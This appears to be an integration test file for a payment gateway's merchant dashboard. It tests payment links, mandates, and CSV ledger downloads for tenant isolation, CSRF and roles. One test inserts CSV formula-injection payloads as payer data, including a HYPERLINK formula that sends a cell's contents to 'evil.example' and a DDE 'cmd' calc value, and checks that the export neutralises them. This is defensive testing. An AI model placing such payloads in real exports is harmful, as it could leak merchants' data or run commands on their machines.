import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import { toBulkRecord } from '../../src/domain/ledger-record';
import { newTxnId } from '../../src/domain/identifiers';
import { formatIstDateTime } from '../../src/domain/ist-time';
import type { MerchantCredentials } from '../../src/usecases/provision-merchant';
import { dashboardUser, type FormClient } from '../support/dashboard';
import { gatewayWithNewMerchant, type TestGateway } from '../support/gateway';
import { createData, transactU } from '../support/mandates';
import { linkPath, openLink, payByCard } from '../support/payment-links';
import { newOrderId, paymentFinished, sandboxPay, storedTransaction } from '../support/payments';

/**
 * The dashboard's payment links (list with status, create one through the link API's use case),
 * mandates (list with state and debits) and CSV downloads (the ledger and bulk queries), over real
 * HTTP: tenant isolation, CSRF and roles on each.
 */
describe('Merchant dashboard: payment links, mandates and downloads', function () {
  this.timeout(90_000);
  let gw: TestGateway;
  let merchant: MerchantCredentials;
  let other: MerchantCredentials;
  let owner: FormClient;

  beforeEach(async () => {
    ({ gw, merchant } = await gatewayWithNewMerchant('Coorg Honey'));
    other = await gw.newMerchant('Other');
    ({ client: owner } = await dashboardUser(gw, merchant.merchantIdentifier, 'owner'));
  });

  const today = () => formatIstDateTime(gw.rt.now()).slice(0, 10);
  const batchIdOf = async (client: FormClient) =>
    /name="batchId" value="([^"]+)"/.exec((await client.send('/dashboard/links')).text)![1]!;
  const linkForm = (o: Record<string, string> = {}) => ({
    orderId: newOrderId('dl'),
    amount: '149.50',
    productDescription: 'Wild honey 500 g',
    customerEmail: 'buyer@example.com',
    validDays: '7',
    ...o,
  });

  describe('payment links', () => {
    it('creates a link through the link API’s use case; listed as open, then paid; sent twice, still one link', async () => {
      const form = linkForm({ batchId: await batchIdOf(owner) });
      const res = await owner.post('/dashboard/links', form);
      assert.equal(res.status, 201, res.text.slice(0, 400));
      const url = /id="created-link" href="([^"]+)"/.exec(res.text)![1]!;
      assert.match(url, /\/pl\/[A-Za-z0-9_-]+$/);
      const again = await owner.post('/dashboard/links', form);
      assert.equal(again.status, 201);
      assert.equal(/id="created-link" href="([^"]+)"/.exec(again.text)![1], url, 'the same link, not a second');
      assert.equal(await gw.rt.store.db.collection('payment_links').countDocuments({ orderId: form.orderId }), 1);
      const order = await storedTransaction(gw, merchant.merchantIdentifier, form.orderId);
      assert.equal(order?.amountPaise, 14_950);
      assert.equal(order?.channel, 'link');

      const list = await owner.send('/dashboard/links');
      assert.match(
        list.text,
        new RegExp(`${form.orderId}</a></td>\\s*<td>₹149\\.50</td>.*?<td class="link-status">Open until \\d{4}-`, 's'),
      );

      const page = await openLink(gw, linkPath(url));
      assert.equal((await payByCard(gw, linkPath(url), page, '4012001037141112')).status, 303);
      await paymentFinished(gw, merchant.merchantIdentifier, form.orderId);
      assert.match((await owner.send('/dashboard/links')).text, /<td class="link-status">Paid<\/td>/);
      // Paid by card, it is still a link when searched by kind.
      assert.match((await owner.send('/dashboard/transactions?kind=link')).text, new RegExp(form.orderId));
    });

    it('refuses a bad link with the API’s reason and creates nothing', async () => {
      for (const [fields, reason] of [
        [{ amount: '5' }, /amount/],
        [{ amount: 'lots' }, /amount/],
        [{ orderId: '-bad id-' }, /orderId/],
        [{ validDays: '365' }, /validDays/],
      ] as const) {
        const form = linkForm({ batchId: await batchIdOf(owner), ...fields });
        const res = await owner.post('/dashboard/links', form);
        assert.equal(res.status, 400, JSON.stringify(fields));
        assert.match(res.text, reason);
        assert.match(res.text, /No link was created/);
        assert.equal(await storedTransaction(gw, merchant.merchantIdentifier, form.orderId), null);
      }
      assert.equal(
        await gw.rt.store.db.collection('payment_links').countDocuments({ merchantIdentifier: merchant.merchantIdentifier }),
        0,
      );
    });

    it('a viewer sees no form and is refused (403); a POST without the CSRF token is refused (403); nothing is created', async () => {
      const { client: viewer } = await dashboardUser(gw, merchant.merchantIdentifier, 'viewer');
      const page = await viewer.send('/dashboard/links');
      assert.equal(page.status, 200);
      assert.doesNotMatch(page.text, /name="batchId"/);
      const form = linkForm({ batchId: 'dash-0123456789abcdef' });
      assert.equal((await viewer.post('/dashboard/links', form)).status, 403);
      assert.equal((await owner.send('/dashboard/links', { form })).status, 403);
      assert.equal((await owner.send('/dashboard/links', { form: { ...form, csrf: 'stale' } })).status, 403);
      assert.equal(await storedTransaction(gw, merchant.merchantIdentifier, form.orderId), null);
    });

    it('lists only the merchant’s own links', async () => {
      const { client: others } = await dashboardUser(gw, other.merchantIdentifier, 'owner');
      const form = linkForm({ batchId: await batchIdOf(others) });
      assert.equal((await others.post('/dashboard/links', form)).status, 201);
      const list = await owner.send('/dashboard/links');
      assert.match(list.text, /id="no-links"/);
      assert.doesNotMatch(list.text, new RegExp(form.orderId));
      assert.equal((await owner.send('/dashboard/links?from=someday')).status, 400);
    });
  });

  describe('mandates', () => {
    it('lists the merchant’s mandates with their state and its debits; another merchant’s never', async () => {
      const orderId = newOrderId('mdt');
      const othersId = newOrderId('mdo');
      assert.equal((await transactU(gw.baseUrl, merchant, createData(merchant, { orderId, today: gw.rt.now() }))).status, 200);
      assert.equal(
        (await transactU(gw.baseUrl, other, createData(other, { orderId: othersId, today: gw.rt.now() }))).status,
        200,
      );
      const debitId = newOrderId('debit');
      await gw.rt.transactions.createPending({
        txnId: newTxnId(gw.rt.now()),
        merchantIdentifier: merchant.merchantIdentifier,
        orderId: debitId,
        amountPaise: 25_000,
        productDescription: 'Milk, June',
        buyerName: null,
        buyerEmail: null,
        ipAddress: null,
        instrument: { kind: 'UPI_MANDATE', vpa: 'success@sandbox', bankName: 'Sandbox UPI Bank', mandateOrderId: orderId },
        createdAt: gw.rt.now(),
      });
      const page = await owner.send('/dashboard/mandates');
      assert.equal(page.status, 200);
      assert.match(
        page.text,
        new RegExp(`<td>${orderId}</td><td class="mandate-state">(CREATED|ACTIVE)</td><td>₹5000\\.00</td>`),
      );
      assert.match(page.text, new RegExp(`<td>1</td></tr>`));
      assert.match(page.text, new RegExp(`${debitId}</a></td><td>${orderId}</td><td>₹250\\.00</td>`));
      assert.doesNotMatch(page.text, new RegExp(othersId));
      assert.equal((await owner.send('/dashboard/mandates?from=2026-13-01')).status, 400);
    });
  });

  describe('downloads', () => {
    async function paid(m: MerchantCredentials, payerVpa = 'success@sandbox') {
      const orderId = newOrderId('csv');
      await sandboxPay(gw, { merchantIdentifier: m.merchantIdentifier, orderId, payerVpa });
      await paymentFinished(gw, m.merchantIdentifier, orderId);
      return orderId;
    }

    it('the ledger of a period and the successful transactions of a day, as CSV of the merchant’s own', async () => {
      const ok = await paid(merchant);
      const declined = await paid(merchant, 'failure@sandbox');
      const othersOrder = await paid(other);

      const ledger = await owner.send(`/dashboard/downloads/ledger.csv?from=${today()}&to=${today()}`);
      assert.equal(ledger.status, 200);
      assert.match(ledger.headers.get('content-type') ?? '', /^text\/csv/);
      assert.match(ledger.headers.get('content-disposition') ?? '', /attachment; filename="ledger-/);
      const rows = parse(ledger.text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(rows.map((r) => r.orderId).sort(), [ok, declined].sort());
      const okRow = rows.find((r) => r.orderId === ok)!;
      assert.equal(okRow.status, 'SUCCESS');
      assert.equal(okRow.amountInRupees, '100');
      assert.equal(rows.find((r) => r.orderId === declined)!.status, 'FAILED');
      assert.doesNotMatch(ledger.text, new RegExp(othersOrder));

      const day = await owner.send(`/dashboard/downloads/successful.csv?day=${today()}`);
      assert.equal(day.status, 200);
      const records = parse(day.text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(
        records.map((r) => r.orderid),
        [ok],
      );
      // Each row is the bulk API's record; its checksum signs the record as that API returns it.
      const r = records[0]!;
      assert.equal(r.status, 'Success');
      assert.match(r.checksum!, /^[0-9a-f]{64}$/);
      const bulk = await gw.rt.transactions
        .bulkPage({
          merchantIdentifier: merchant.merchantIdentifier,
          from: new Date(0),
          until: new Date(8.64e15),
          statuses: ['Success'],
          skip: 0,
          limit: 10,
        })
        .toArray();
      assert.equal(bulk.length, 1);
      assert.equal(r.checksum, toBulkRecord(bulk[0]!, merchant.secretKey).checksum);
    });

    it("a payer's formula (=, +, -, @) is written as text: a leading ' in every CSV cell that would run", async () => {
      const orderId = newOrderId('csv');
      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Refund")';
      await sandboxPay(gw, {
        merchantIdentifier: merchant.merchantIdentifier,
        orderId,
        payerVpa: 'success@sandbox',
        buyerName: '@SUM(1+1)*cmd',
        productDescription: formula,
      });
      // Excel in locales whose list separator is `;` splits an unquoted cell there and runs the rest.
      const splitting = newOrderId('csv');
      const semicolon = "Ravi;=cmd|' /C calc'!A0";
      await sandboxPay(gw, {
        merchantIdentifier: merchant.merchantIdentifier,
        orderId: splitting,
        payerVpa: 'success@sandbox',
        buyerName: semicolon,
      });
      await paymentFinished(gw, merchant.merchantIdentifier, splitting);
      await paymentFinished(gw, merchant.merchantIdentifier, orderId);
      const ledger = await owner.send(`/dashboard/downloads/ledger.csv?from=${today()}&to=${today()}`);
      const row = (parse(ledger.text, { columns: true }) as Record<string, string>[]).find((r) => r.orderId === orderId)!;
      assert.equal(row.buyerName, "'@SUM(1+1)*cmd");
      assert.equal(row.amountInRupees, '100', 'a number stays a number');
      const day = await owner.send(`/dashboard/downloads/successful.csv?day=${today()}`);
      const record = (parse(day.text, { columns: true }) as Record<string, string>[]).find((r) => r.orderid === orderId)!;
      assert.equal(record.productDescription, `'${formula}`);
      assert.equal(record.buyerName, "'@SUM(1+1)*cmd");
      const split = (parse(day.text, { columns: true }) as Record<string, string>[]).find((r) => r.orderid === splitting)!;
      assert.equal(split.buyerName, semicolon);
      assert.ok(day.text.includes(`"${semicolon}"`), 'a cell with ; is quoted');
      for (const text of [ledger.text, day.text]) {
        for (const cell of parse(text) as string[][]) {
          for (const c of cell.flat()) assert.ok(!/^[=+@\t\r]/.test(c) && !/^-(?![\d.]+$)/.test(c), `a cell that runs: ${c}`);
        }
      }
    });

    it('an empty period is a CSV with its header only; bad input is a page saying why (400)', async () => {
      const empty = await owner.send('/dashboard/downloads/ledger.csv?from=2026-01-01&to=2026-01-02');
      assert.equal(empty.status, 200);
      assert.equal(empty.text.trim().split('\n').length, 1);
      assert.match(empty.text, /^txnInitiatedDate,txnLastUpdatedDate,/);
      for (const q of [
        'ledger.csv?from=2026-01-02&to=2026-01-01',
        'ledger.csv?from=2026-02-30&to=2026-03-01',
        'ledger.csv?from=x',
        'successful.csv',
        'successful.csv?day=2026-01-01&extra=1',
        'ledger.csv?from=2025-01-01&to=2026-01-01',
      ]) {
        const res = await owner.send(`/dashboard/downloads/${q}`);
        assert.equal(res.status, 400, q);
        assert.match(res.headers.get('content-type') ?? '', /^text\/html/, q);
        assert.match(res.text, /Nothing was downloaded/, q);
      }
    });
  });
});
